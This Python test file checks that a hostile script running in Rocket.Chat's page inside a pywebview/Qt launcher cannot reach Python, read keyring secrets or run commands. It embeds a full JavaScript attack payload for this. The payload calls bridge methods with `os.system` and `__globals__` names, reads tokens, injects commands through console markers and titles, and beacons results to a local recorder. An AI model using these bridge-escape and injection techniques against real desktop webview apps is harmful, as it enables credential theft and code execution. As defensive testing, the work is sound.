"""A hostile script on Rocket.Chat's origin reaches nothing of the launcher. Real window, real keyring.

The script is what an admin's "Custom Script for Logged In Users" (or an XSS) could run in Rocket.Chat's
page (the stand-in serves it from its `Custom_Script_Logged_In` setting, rcsandbox/webclient.py). It
tries every way from page JavaScript to Python we know of: pywebview's `_jsApiCallback` and `api` with
dotted, underscore and `__globals__` names (the review's keyring read and `os.system` included), the Qt
web channel's transport directly (pywebview's QWebChannel or a hand-made client), `window.external`,
pywebview's own hooks (`_pywebviewAlert`, `pywebviewStateUpdate`, ...), the launcher's console wake-up
marker, and the page title. It reports every answer to a recorder the test runs (sendBeacon, so even a
page that is leaving gets its reports out). The launcher's own sign-in page still works: every test here
first signs in through it, and tests/launcher/window/test_window_signin.py covers it in full.
"""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from launcher.signin.credentials import CredentialStore
from launcher.window.injection import WAKE_MARKER
from tests.support.launcher_runs import ALICE, ORGANIZATION, Launcher

pytestmark = pytest.mark.window

#: What answers from Python look like in the recorder; none may ever arrive.
ANSWERS = {"returned", "api-settled", "channel-init", "channel-reply", "channel-message", "external-reply"}
#: What reaching the web channel at all looks like (its object list, the `call` slot's empty replies).
CHANNEL = {"transport-seen", "channel-init", "channel-reply", "channel-message"}

# The names a page sends: the review's two (keyring read, command), the same walks through today's
# objects, `__globals__` walks, pywebview's own hook names, and the four allowed names (refused here too).
_HOSTILE_SCRIPT = r"""
var REC = __RECORDER__, FILE = __FILE__, MARKER = __MARKER__;
var seq = 0;
function send(kind, data) {
  var body = JSON.stringify({kind: kind, data: data === undefined ? null : data, seq: ++seq});
  try { if (navigator.sendBeacon(REC, body)) { return; } } catch (e) {}
  try { fetch(REC, {method: 'POST', mode: 'no-cors', body: body, keepalive: true}); } catch (e) {}
}
function describe(v) { try { return JSON.stringify(v); } catch (e) { return String(v); } }
function attempt(what, fn) { try { fn(); } catch (e) { send('threw', {what: what, error: String(e)}); } }
var SYSTEM = ['touch ' + FILE];
var CALLS = [
  ['_controller._flow.store._get_json', ['org-login']],
  ['_controller._flow.store._get_json', ['rocketchat-token']],
  ['_controller._shell.session._flow.store._get_json', ['org-login']],
  ['_controller._shell.session._flow.store._get_json', ['rocketchat-token']],
  ['_controller._shell.session._flow.store.load_login', []],
  ['_controller._qt.logging.os.system', SYSTEM],
  ['_controller._shell.window.gui.os.system', SYSTEM],
  ['_controller._shell.engine.window.gui.os.system', SYSTEM],
  ['os.system', SYSTEM],
  ['context.__globals__', []],
  ['sign_in.__globals__', []],
  ['__class__.__init__.__globals__', []],
  ['_controller.__class__.__init__.__globals__', []],
  ['context.__class__.__init__', []],
  ['_functions', []],
  ['_controller', []],
  ['pywebviewStateUpdate', {key: 'hostile', value: 1}],
  ['pywebviewStateDelete', 'hostile'],
  ['pywebviewMoveWindow', [0, 0]],
  ['pywebviewEventHandler', {event: {type: 'click'}, nodeId: 'x'}],
  ['pywebviewAsyncCallback', 'null'],
  ['context', []],
  ['sign_in', ['mallory', 'not-a-password', true]],
  ['retry', []],
  ['sign_in_as_someone_else', []],
];

function survey() {
  var pv = window.pywebview, found = [];
  (function walk(obj, path, depth) {
    if (!obj || depth > 2) { return; }
    Object.keys(obj).forEach(function (k) {
      var v; try { v = obj[k]; } catch (e) { return; }
      if (typeof v === 'function') { found.push(path + k); } else if (v && typeof v === 'object') { walk(v, path + k + '.', depth + 1); }
    });
  })(pv, 'pywebview.', 0);
  return {
    origin: location.origin,
    pywebview: typeof pv,
    pywebviewKeys: pv ? Object.keys(pv) : null,
    pywebviewFunctions: found,
    qt: typeof window.qt,
    transport: !!(window.qt && window.qt.webChannelTransport),
    QWebChannel: typeof window.QWebChannel,
    externalCall: !!(window.external && typeof window.external.call === 'function'),
    externalInvoke: !!(window.external && typeof window.external.invoke === 'function'),
    chromeWebview: !!(window.chrome && window.chrome.webview),
    webkitHandlers: !!(window.webkit && window.webkit.messageHandlers),
    pywebviewAlert: typeof window._pywebviewAlert
  };
}

// Catch anything Python might evaluate into this page: pywebview answers through
// window.pywebview._returnValuesCallbacks[name][id](...).
function trap() {
  var pv = window.pywebview || (window.pywebview = {});
  var store = pv._returnValuesCallbacks || {};
  pv._returnValuesCallbacks = new Proxy(store, {get: function (t, name) {
    if (typeof name !== 'string') { return t[name]; }
    if (!(name in t)) { t[name] = {}; }
    return new Proxy(t[name], {get: function (calls, id) {
      return function (answer) { send('returned', {name: name, id: String(id), answer: describe(answer)}); };
    }});
  }});
}

// A QWebChannel client of our own, for a transport without pywebview's qwebchannel.js.
function miniChannel(transport, ready) {
  var next = 100, pending = {};
  transport.onmessage = function (m) {
    var d = typeof m.data === 'string' ? JSON.parse(m.data) : m.data;
    if (d && d.type === 10 && pending[d.id]) { var f = pending[d.id]; delete pending[d.id]; f(d.data); return; }
    send('channel-message', {message: describe(d)});
  };
  function exec(msg, cb) { msg.id = ++next; pending[msg.id] = cb; transport.send(JSON.stringify(msg)); }
  exec({type: 3}, function (objects) {
    send('channel-init', {objects: describe(objects)});
    transport.send(JSON.stringify({type: 4}));
    ready(function (object, method, args, cb) {
      var idx = method;
      ((objects[object] || {}).methods || []).forEach(function (m) { if (m[0] === method) { idx = m[1]; } });
      exec({type: 6, object: object, method: idx, args: args}, cb);
    });
  });
}

function withChannel(use) {
  if (!(window.qt && window.qt.webChannelTransport)) { return false; }
  var transport = window.qt.webChannelTransport;
  if (typeof window.QWebChannel === 'function') {
    new window.QWebChannel(transport, function (channel) {
      send('channel-init', {objects: Object.keys(channel.objects)});
      var ext = channel.objects.external;
      use(function (object, method, args, cb) { channel.objects[object][method].apply(null, args.concat([cb])); }, ext);
    });
  } else {
    miniChannel(transport, function (invoke) { use(invoke); });
  }
  return true;
}

function callEverything(tag) {
  var pv = window.pywebview;
  CALLS.forEach(function (call, i) {
    var name = call[0], params = call[1], id = tag + i;
    if (pv && typeof pv._jsApiCallback === 'function') {
      attempt('jsApiCallback ' + name, function () { pv._jsApiCallback(name, params, id); });
      attempt('jsApiCallback bad id ' + name, function () { pv._jsApiCallback(name, params, id + '"]);//'); });
    }
    if (pv && pv.api && typeof pv.api[name] === 'function') {
      attempt('api ' + name, function () {
        pv.api[name].apply(null, params).then(function (v) { send('api-settled', {name: name, value: describe(v)}); },
          function (e) { send('api-settled', {name: name, error: String(e)}); });
      });
    }
    if (window.external && typeof window.external.call === 'function') {
      attempt('external.call ' + name, function () {
        send('external-reply', {name: name, value: describe(window.external.call(name, JSON.stringify(params), id))});
      });
    }
  });
  withChannel(function (invoke) {
    CALLS.forEach(function (call, i) {
      invoke('external', 'call', [call[0], JSON.stringify(call[1]), tag + 'c' + i], function (r) {
        send('channel-reply', {name: call[0], value: describe(r)});
      });
    });
  });
}

function sideChannels() {
  console.log(MARKER + 'logged-in');
  console.log(MARKER + 'touch ' + FILE);
  console.log(MARKER + "__import__('os').system('touch " + FILE + "')");
  console.log('pywebview ' + JSON.stringify({funcName: 'os.system', params: SYSTEM, id: 'console'}));
  console.error(MARKER + new Array(5000).join('x'));
  document.title = 'touch ' + FILE;
  document.title = '(7) ' + 'os.system ' + FILE;
}

// Until the page goes: the moment the window leaves for a local page is when a transport could appear.
function watchForTransport() {
  var seen = false, pywebviewSeen = false, stop = Date.now() + 120000;
  var channel = new MessageChannel();
  channel.port1.onmessage = function () {
    if (!seen && window.qt && window.qt.webChannelTransport) {
      seen = true;
      send('transport-seen', {url: location.href});
      callEverything('race');
    }
    if (!pywebviewSeen && window.pywebview && typeof window.pywebview._jsApiCallback === 'function') {
      pywebviewSeen = true;
      send('pywebview-seen', {url: location.href});
    }
    if (Date.now() < stop) { setTimeout(function () { channel.port2.postMessage(0); }, 0); }
  };
  channel.port2.postMessage(0);
}

// A pop-up's page: the launcher sends its URL to the system browser and must then discard the page
// (a live one keeps running script, and the opener can write into it).
function popupProbe() {
  var w = window.open(REC.replace(/\/report$/, '/popup'), '_blank'), stop = Date.now() + 15000;
  (function check() {
    var closed = !w || w.closed;
    if (closed || Date.now() > stop) { send('popup', {opened: !!w, closed: closed}); return; }
    setTimeout(check, 100);
  })();
}

if (!window.__hostileStarted) {
  window.__hostileStarted = true;
  send('marker', {origin: location.origin});
  attempt('survey', function () { send('survey', survey()); });
  attempt('trap', trap);
  attempt('watch', watchForTransport);
  attempt('calls', function () { callEverything('h'); });
  attempt('side channels', sideChannels);
  attempt('popup', popupProbe);
  setTimeout(function () {
    send('survey-after', survey());
    send('done');
    // last, since where it works it opens a modal dialog that blocks the window (window.alert is no
    // bridge: pywebview's customize.js turns it into _pywebviewAlert only where it has been injected)
    withChannel(function (invoke) { invoke('external', 'call', ['_pywebviewAlert', '"hostile"', 'alert'], function () {}); });
  }, 4000);
}
"""


class Recorder:
    """What the hostile page reported (each POST body a JSON object), from another origin."""

    def __init__(self) -> None:
        self.reports: list[dict[str, Any]] = []
        self.raw: list[str] = []
        self._lock = threading.Lock()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", "0") or 0))
                outer._add(body.decode("utf-8", errors="replace"))
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/report"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def _add(self, text: str) -> None:
        try:
            report = json.loads(text)
        except ValueError:
            report = {"kind": "unreadable", "data": text}
        with self._lock:
            self.raw.append(text)
            self.reports.append(report if isinstance(report, dict) else {"kind": "unreadable"})

    def of(self, kind: str) -> list[Any]:
        with self._lock:
            return [r.get("data") for r in self.reports if r.get("kind") == kind]

    def kinds(self) -> set[str]:
        with self._lock:
            return {str(r.get("kind")) for r in self.reports}

    def wait_for(self, kind: str, timeout: float) -> Any:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            found = self.of(kind)
            if found:
                return found[0]
            time.sleep(0.1)
        raise AssertionError(f"the hostile page never reported {kind!r}; it reported {sorted(self.kinds())}")

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    server = Recorder()
    yield server
    server.close()


def hostile_script(recorder: Recorder, target: Path) -> str:
    """The script with the recorder's address, the file a command would create, and the wake marker."""
    return (
        _HOSTILE_SCRIPT.replace("__RECORDER__", json.dumps(recorder.url))
        .replace("__FILE__", json.dumps(str(target)))
        .replace("__MARKER__", json.dumps(WAKE_MARKER))
    )


def signed_in_with_hostile_script(launcher: Launcher, recorder: Recorder, target: Path) -> dict[str, str]:
    """Sign in through the launcher's own page (the keyring then holds the password and the token), then
    make the hostile script Rocket.Chat's custom script. The secrets the page must never see come back."""
    launcher.sign_in_with_form()
    store = CredentialStore(launcher.paths.keyring_namespace)
    login, token = store.load_login(), store.load_token(launcher.stack.rocketchat_url)
    assert login is not None and login.password == ALICE.password and token is not None
    launcher.stack.sandbox.set_setting("Custom_Script_Logged_In", hostile_script(recorder, target))
    return {"password": login.password, "token": token.auth_token}


def assert_nothing_came_back(recorder: Recorder, secrets: dict[str, str], target: Path) -> None:
    """No value from Python, not even the web channel's own metadata; no secret, no command."""
    answers = {kind: recorder.of(kind) for kind in ANSWERS | CHANNEL if recorder.of(kind)}
    assert answers == {}, f"the page got answers from Python: {answers}"
    replies = [r for r in recorder.of("channel-reply") if r.get("value") not in ('""', "null", None)]
    assert replies == [], f"the web channel answered with values: {replies}"
    assert recorder.of("pywebview-seen") == [], "Rocket.Chat's page got pywebview's bridge"
    everything = "\n".join(recorder.raw)
    for name, secret in secrets.items():
        assert secret not in everything, f"the keyring's {name} reached the page"
    assert not target.exists(), "a command from the page ran"


def assert_no_bridge(survey: dict[str, Any], origin: str) -> None:
    assert survey["origin"] == origin
    assert survey["pywebview"] == "undefined" and survey["pywebviewFunctions"] == [], survey
    assert survey["qt"] == "undefined" and survey["transport"] is False, survey
    assert survey["QWebChannel"] == "undefined", survey
    assert not survey["externalCall"] and not survey["externalInvoke"], survey
    assert not survey["chromeWebview"] and not survey["webkitHandlers"], survey


def test_a_hostile_script_on_rocketchat_gets_nothing_back_and_runs_no_command(
    make_launcher, recorder, tmp_path
):
    launcher = make_launcher()
    target = tmp_path / "hostile-was-here"
    secrets = signed_in_with_hostile_script(launcher, recorder, target)
    live = launcher.start()
    live.wait_signed_in()

    marker = recorder.wait_for("marker", 30)  # the script really ran, in Rocket.Chat's origin
    assert marker == {"origin": launcher.stack.sandbox.origin}
    recorder.wait_for("done", 30)
    popup = recorder.wait_for("popup", 30)
    time.sleep(1.0)  # answers the page is still owed would arrive now

    assert_no_bridge(recorder.of("survey")[0], launcher.stack.sandbox.origin)
    after = recorder.of("survey-after")[0]
    assert after["transport"] is False and after["QWebChannel"] == "undefined", after
    assert_nothing_came_back(recorder, secrets, target)
    assert popup == {"opened": True, "closed": True}, popup  # the pop-up's page is gone, not just hidden
    assert launcher.opened_in_browser() == []  # opened with no click: refused, not even the browser
    facts = live.command("facts")
    assert facts["state"] == "signed-in", facts  # the launcher did not move (no sign-in, no sign-out)
    # the page's title is read only for an unread count: its text never reaches the window
    assert facts["title"].endswith(ORGANIZATION) and "touch" not in facts["title"], facts
    store = CredentialStore(launcher.paths.keyring_namespace)
    assert store.load_login() is not None and store.load_token(launcher.stack.rocketchat_url) is not None
    run = live.finish()
    assert run.report.get("final_state") == "signed-in", run.explain()
    assert not target.exists()


def sign_in_then_sign_out_with_hostile_script(launcher: Launcher, recorder: Recorder, target: Path) -> Any:
    """One process: the sign-in page (pywebview registers its bridge object on the channel), Rocket.Chat
    with the hostile script, then Sign out back to the sign-in page, while the script watches for a
    transport in the page being left (it runs until the sign-in page commits)."""
    launcher.stack.sandbox.set_setting("Custom_Script_Logged_In", hostile_script(recorder, target))
    run = launcher.run(
        fill={"username": ALICE.username, "password": ALICE.password, "remember": True},
        plan={
            "after_signed_in": [{"do": "menu", "title": "Sign out"}],
            "finish_on": ["signin@2", "error", "signin-failed"],
        },
    )
    # before the fix of engines/qt.py this run crashed (SIGSEGV) as soon as the script used the
    # transport Qt left dangling in Rocket.Chat's page after setWebChannel(None)
    assert run.states == ["signin", "signing-in", "signed-in", "signing-out", "signin"], run.explain()
    assert recorder.wait_for("marker", 5) == {"origin": launcher.stack.sandbox.origin}
    time.sleep(2.0)  # beacons from the page that left
    return run


def test_the_page_being_left_for_the_sign_in_page_gets_no_answer_and_never_sees_the_transport(
    make_launcher, recorder, tmp_path
):
    """At sign-out Rocket.Chat's page still runs while the window goes to the sign-in page: the window
    crosses through an empty page, so the transport never appears in Rocket.Chat's page, and the
    sign-in page then works (its organization name and notice come from the bridge's `context`)."""
    launcher = make_launcher()
    target = tmp_path / "hostile-was-here"
    run = sign_in_then_sign_out_with_hostile_script(launcher, recorder, target)

    assert_nothing_came_back(recorder, {"password": ALICE.password}, target)
    assert recorder.of("transport-seen") == []
    signin = run.entry("signin", 2)
    assert "You are signed out." in signin["text"] and ORGANIZATION in signin["text"], signin
